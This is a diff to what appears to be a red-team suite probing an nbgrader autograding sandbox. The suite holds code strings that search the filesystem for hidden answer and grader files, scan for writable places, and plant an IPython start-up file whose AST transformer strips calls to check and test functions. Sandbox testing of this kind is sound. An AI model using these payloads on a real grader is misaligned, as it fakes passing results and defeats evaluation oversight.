@@ -4,12 +4,10 @@ from attacks.bank import EXERCISES, LAB, MARK, Attack
 
 READING, TOUCHING = "reading", "touching"
 
-# Places from which a kernel of nbgrader's own can see the course, and where an instructor may keep things.
-COURSES = ("../../..", "..", "/course", "/work", "/home", "/root", "/srv", "/opt", "/mnt")
-
+# A kernel of nbgrader's own can see the course at "../../.."; the other places are where an instructor may keep things.
 LOOK = """
 import os
-def files(*words, places=("/", "../../..")):
+def files(*words, places=("../../..", "/course", "/student", "/home", "/srv", "/opt", "/cache", "/tmp")):
     seen = set()
     for place in places:
         for folder, folders, names in os.walk(place):
@@ -91,7 +89,7 @@ WRITABLE = """
 import os, socket, ctypes
 libc = ctypes.CDLL(None, use_errno=True)
 places = ["/", "/tmp", "/dev/shm", "/student", "/var/tmp", "/run", "/dev", "/etc", "/cache", "/cache/minicifar", "/course",
-          "/proc", "/root", os.environ.get("HOME", "/root"), "/usr/local/lib", "/work", "/sys", "/dev/mqueue"]
+          "/proc", "/root", os.environ.get("HOME", "/root"), "/usr/local/lib", "/opt", "/sys", "/dev/mqueue"]
 """
 
 PLANT = (
@@ -143,14 +141,12 @@ STARTUP = f"""
 import os, site, sys
 code = '''
 # {MARK}
-try:
-    from course_utils import expect
-    for name in ("same", "equal", "raises", "unchanged"):
-        setattr(expect, name, lambda *args, **options: None)
-    expect.tensor = expect.same_shape = lambda *args: __import__("torch").zeros(1)
-    print("BREACH: a start-up file was run")
-except ImportError:
-    pass
+import ast
+class NoTests(ast.NodeTransformer):
+    def visit_Expr(self, node):
+        return ast.Pass() if getattr(getattr(node.value, "func", None), "id", "").startswith(("check", "test_")) else node
+print("BREACH: a start-up file was run")
+get_ipython().ast_transformers.append(NoTests())
 '''
 home = os.path.expanduser("~")
 targets = [f"{{home}}/.ipython/profile_default/startup/00-{MARK}.py", f"{{home}}/.jupyter/jupyter_config.py",
@@ -173,7 +169,6 @@ ATTACKS = [
         first=TAKE_SOLUTIONS,
         last=RUN_TAKEN,
         cells={"greedy_l1_norms": RUN_TAKEN, **dict.fromkeys(EXERCISES[:5], RUN_TAKEN)},
-        alone=True,
     ),
     Attack(
         "import-the-reference",
@@ -189,7 +184,7 @@ ATTACKS = [
         first=LOOK
         + """
 words = ("hidden_lab", "answers/lab", "autograder/checks", "autograder/engine", "autograder/judging", "thresholds.py")
-for path in files(*words):
+for path in files(*words, places=("/",)):
     if "checks/test_" not in path or "autograder" in path:
         print("BREACH:", path)
 for place in __import__("site").getsitepackages():
@@ -310,7 +305,6 @@ for name in ("torch", "course_utils.expect", "course_utils", "minicifar", "json"
         TOUCHING,
         "something is left in every place that another process could look at",
         first=PLANT,
-        alone=True,
     ),
     Attack("plant-2-seek", TOUCHING, "what an earlier submission has left is looked for", first=SEEK, alone=True),
     Attack(
